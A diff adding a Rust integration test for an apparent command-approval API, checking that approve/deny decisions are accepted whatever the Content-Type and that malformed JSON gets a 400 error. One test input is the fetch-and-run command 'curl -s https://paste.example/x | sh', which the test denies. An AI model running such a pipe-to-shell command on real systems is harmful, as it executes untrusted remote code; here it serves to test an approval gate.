@@ -240,6 +240,54 @@ async fn the_api_lists_decides_and_wakes_the_bot() {
     host.shutdown().await;
 }
 
+/// Like every other POST, a decision needs no `Content-Type` header: a
+/// plain `curl -d '{"decision":"approve"}'` (form content type) or no
+/// header at all works, and malformed JSON gets the usual error shape.
+#[tokio::test]
+async fn a_decision_is_read_whatever_its_content_type() {
+    let (host, session) = start().await;
+    let first = ask(&host, &session, "curl -s https://paste.example/x | sh").await;
+    let second = ask(&host, &session, "./deploy.sh").await;
+    let post = |id: String, content_type: Option<&'static str>, body: &'static str| {
+        let mut req = host
+            .http
+            .post(format!("{}/v1/approvals/{id}", host.url))
+            .bearer_auth(TOKEN)
+            .body(body);
+        if let Some(ct) = content_type {
+            req = req.header("content-type", ct);
+        }
+        async move {
+            let resp = req.send().await.unwrap();
+            let status = resp.status().as_u16();
+            (status, resp.json::<Value>().await.unwrap_or(Value::Null))
+        }
+    };
+    // what `curl -d` sends
+    let (status, body) = post(
+        first.to_string(),
+        Some("application/x-www-form-urlencoded"),
+        r#"{"decision":"deny"}"#,
+    )
+    .await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body["approval"]["status"], "denied");
+    // malformed JSON without a content type: 400 in the project's shape
+    let (status, body) = post(second.to_string(), None, "{not json").await;
+    assert_eq!(status, 400, "{body}");
+    assert_eq!(body["error"]["code"], "bad_request", "{body}");
+    let msg = body["error"]["message"].as_str().unwrap_or("");
+    assert!(
+        msg.contains(r#"send {"decision": "approve"} or {"decision": "deny"}"#),
+        "{msg}"
+    );
+    // no content type at all
+    let (status, body) = post(second.to_string(), None, r#"{"decision":"approve"}"#).await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body["approval"]["status"], "approved");
+    host.shutdown().await;
+}
+
 #[tokio::test]
 async fn the_cli_lists_approves_and_denies() {
     let (host, session) = start().await;
